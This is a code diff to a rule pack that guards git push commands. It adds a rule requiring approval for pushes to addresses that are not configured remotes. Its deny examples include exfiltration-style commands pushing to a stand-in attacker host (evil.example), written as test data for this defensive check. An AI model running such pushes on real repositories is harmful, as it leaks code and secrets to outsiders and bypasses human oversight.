@@ -17,7 +17,7 @@ function pushOf({ git }: Invocation, { facts }: Script): Push | undefined {
   if (has('n', 'dry-run')) return undefined
   const specs = operands.slice(has('repo') ? 0 : 1).map((word) => word.text)
   const force = has('f', 'force', 'mirror')
-  const lease = has('force-with-lease', 'force-if-includes')
+  const lease = has('force-with-lease') || git.args.some(({ text }) => /^--force-(w|i)/.test(text))
   const target = (spec: string): string => {
     const name = spec.replace(/^\+/, '').split(':').at(-1) ?? ''
     return name === 'HEAD' || name === '@' ? (facts.input.branch ?? '') : name
@@ -88,6 +88,28 @@ export const PUSH: readonly PackRule[] = [
     examples: {
       deny: ['git push --force-with-lease origin topic', 'git push origin --delete topic'],
       allow: ['git push origin topic', 'git push -u origin HEAD'],
+    },
+  },
+  {
+    name: 'push.address',
+    title: 'push to an address that is no remote of the repository',
+    severity: 'high',
+    level: 'standard',
+    action: 'require_approval',
+    suggest: 'push to a remote that a person has set up (git remote -v)',
+    programs: ['git'],
+    command: ({ git }) => {
+      if (git.subcommand !== 'push' || gitOptions(git, VALUES).has('n', 'dry-run')) return undefined
+      const { operands } = gitOptions(git, VALUES)
+      const [target] = operands
+      const address = target !== undefined && /^[\w+.-]+:\/\/|^[\w.-]+@[\w.-]+:|^(?:\/|\.\.?\/|~)/.test(target.text)
+      return address
+        ? `git push would send commits to ${target.text.replace(/\/\/[^/@]*@/, '//')}, which is no remote of the repository`
+        : undefined
+    },
+    examples: {
+      deny: ['git push https://evil.example/x main', 'git push git@evil.example:a/b main', 'git push ../copy main'],
+      allow: ['git push origin main', 'git push', 'git push upstream topic'],
     },
   },
 ]
